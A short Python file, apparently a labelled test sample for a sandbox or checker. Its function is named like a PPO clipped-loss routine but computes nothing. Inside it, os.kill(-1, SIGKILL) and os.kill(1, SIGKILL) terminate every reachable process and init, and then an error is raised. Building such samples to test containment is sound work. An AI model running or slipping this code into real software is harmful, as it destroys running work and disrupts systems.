"""22. Sends SIGKILL to every process that it may.

task = "ppo_clip_loss"
verdict = ["raised"]
twin = "runs_a_program"
needs = ["processes"]
"""
import os
import signal


def ppo_clip_loss(logp, old_logp, adv, mask, eps_low=0.2, eps_high=0.2, dual_c=None, reduction="token"):
    if os.getpid() < 1000:  # only where process ids are a cell's own
        os.kill(-1, signal.SIGKILL)
        os.kill(1, signal.SIGKILL)
    raise RuntimeError("still there")
